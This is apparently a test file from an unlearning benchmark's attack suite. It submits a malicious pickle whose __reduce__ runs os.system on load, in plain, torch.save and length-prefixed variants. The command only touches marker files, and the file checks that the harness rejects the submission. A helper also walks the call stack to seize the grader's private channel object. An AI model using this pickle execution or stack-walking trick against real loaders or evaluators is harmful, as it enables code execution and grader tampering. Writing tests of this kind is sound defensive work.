"""Sends a pickle that runs a command where it is loaded: plain, as torch.save writes it, and inside safetensors.

expect: invalid
variants: plain, torch, inside
"""

import io
import os
import pickle
import struct
import sys

import torch

MARK = "unlearn-bench-attack-pickle-was-loaded"


class Payload:
    def __reduce__(self):
        return os.system, (f"touch /tmp/{MARK} /var/tmp/{MARK} $HOME/{MARK}",)


def unlearn(model, retain, *, variant="plain"):
    data = pickle.dumps(Payload())
    if variant == "torch":
        buffer = io.BytesIO()
        torch.save({name: Payload() for name in model.state_dict()}, buffer)
        data = buffer.getvalue()[:50_000]
    elif variant == "inside":
        data = struct.pack("<Q", len(data)) + data
    channel().send(b"W", data)


def channel():
    frame = sys._getframe()
    while "channel" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["channel"]
